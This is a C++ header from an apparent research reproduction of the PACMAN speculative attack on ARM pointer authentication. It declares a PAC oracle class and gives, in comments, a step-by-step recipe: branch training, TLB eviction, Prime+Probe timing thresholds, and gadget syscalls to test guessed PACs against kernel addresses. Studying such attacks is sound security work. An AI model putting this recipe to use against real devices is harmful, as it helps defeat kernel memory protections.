@@ -1,0 +1,145 @@
+/**
+ * @file
+ * The PAC oracle (paper Section 8.1): distinguish a correct PAC from
+ * an incorrect one for an attacker-chosen (pointer, modifier) pair —
+ * without ever architecturally using the pointer, hence without any
+ * crash risk.
+ *
+ * One oracle query runs the paper's recipe:
+ *
+ *  1. train the gadget's guard branch (and, for the instruction
+ *     gadget, the BTB) with a legitimately signed pointer;
+ *  2. arm: cond <- 0 so the architectural path skips the gadget body;
+ *  3. reset: evict the guard-condition page's translation (23 loads
+ *     in its L2 TLB set), opening a long speculation window;
+ *  4. prime the target page's dTLB set (12 loads);
+ *  5. fire the gadget syscall with the guessed signed pointer; the
+ *     gadget speculatively authenticates and dereferences it;
+ *  6. (instruction gadget only) evict the kernel iTLB set with 4
+ *     trampoline fetches so a filled translation spills into the
+ *     shared dTLB;
+ *  7. probe the dTLB set and count misses: a correct PAC leaves a
+ *     kernel translation in the primed set, an incorrect PAC leaves
+ *     nothing.
+ */
+
+#ifndef PACMAN_ATTACK_ORACLE_HH
+#define PACMAN_ATTACK_ORACLE_HH
+
+#include <cstdint>
+#include <optional>
+
+#include "attack/eviction.hh"
+#include "attack/runtime.hh"
+
+namespace pacman::attack
+{
+
+/** Which PACMAN gadget the oracle drives. */
+enum class GadgetKind
+{
+    Data,        //!< aut + load   (Figure 3(a))
+    Instruction, //!< aut + blr    (Figure 3(b))
+    Combined,    //!< blraa: verification + transmission in one
+                 //!< ARMv8.3 instruction (extension)
+};
+
+/**
+ * Which micro-architectural structure carries the transmission
+ * (Section 4.1: the attack works over many side channels; the paper's
+ * PoCs use the TLB, and the cache variant is provided to demonstrate
+ * the generality claim).
+ */
+enum class Channel
+{
+    DtlbSet, //!< the paper's shared-L1-dTLB Prime+Probe
+    L1dSet,  //!< L1 data-cache set Prime+Probe (data gadget only)
+};
+
+/** Oracle tuning parameters. */
+struct OracleConfig
+{
+    GadgetKind kind = GadgetKind::Data;
+
+    /** Transmission channel; L1dSet requires the data gadget. */
+    Channel channel = Channel::DtlbSet;
+
+    /** Branch-training iterations before each query (paper: 64). */
+    unsigned trainIters = 8;
+
+    /** Multi-thread-counter threshold separating dTLB hit from miss
+     *  (paper Section 7.4: 30). */
+    uint64_t latencyThreshold = 30;
+
+    /** Probe misses at or above this count a correct PAC
+     *  (paper Figure 8: correct >= 5, incorrect <= 1). */
+    unsigned missThreshold = 3;
+
+    /**
+     * Ablation: skip the TLB-reset step (the paper's step 2). The
+     * gadget's guard condition then resolves quickly, the
+     * speculation window closes before the authenticated pointer can
+     * be transmitted, and the oracle goes blind — demonstrating why
+     * the reset matters.
+     */
+    bool skipReset = false;
+};
+
+/** A configured PAC oracle bound to one target pointer. */
+class PacOracle
+{
+  public:
+    PacOracle(AttackerProcess &proc, const OracleConfig &cfg);
+
+    /**
+     * Bind the oracle to a target. @p target must be a mapped kernel
+     * address (data for the data gadget, code for the instruction
+     * gadget) whose dTLB set does not collide with runtime
+     * infrastructure; isTargetUsable() checks this.
+     */
+    void setTarget(Addr target, uint64_t modifier);
+
+    /** True if @p target's sets avoid infrastructure collisions. */
+    bool isTargetUsable(Addr target) const;
+
+    /**
+     * Run one oracle query for @p guessed_pac.
+     * @return the number of probe misses observed.
+     */
+    unsigned probeMisses(uint16_t guessed_pac);
+
+    /** Classified query: does @p guessed_pac look correct? */
+    bool testPac(uint16_t guessed_pac);
+
+    /** Median-of-@p samples classification (paper Section 8.2). */
+    bool testPacSampled(uint16_t guessed_pac, unsigned samples);
+
+    const OracleConfig &config() const { return cfg_; }
+    Addr target() const { return target_; }
+
+    /** Total gadget-syscall invocations so far (speed accounting). */
+    uint64_t queries() const { return queries_; }
+
+    /** The attacker process this oracle drives. */
+    AttackerProcess &process() { return proc_; }
+
+  private:
+    void train();
+    uint16_t gadgetSyscall() const;
+
+    AttackerProcess &proc_;
+    OracleConfig cfg_;
+    EvictionSets evsets_;
+
+    Addr target_ = 0;
+    uint64_t modifier_ = 0;
+    uint64_t legitPtr_ = 0;
+    std::vector<Addr> resetList_;
+    std::vector<Addr> primeList_;
+    std::vector<uint64_t> trampIndices_;
+    uint64_t queries_ = 0;
+};
+
+} // namespace pacman::attack
+
+#endif // PACMAN_ATTACK_ORACLE_HH
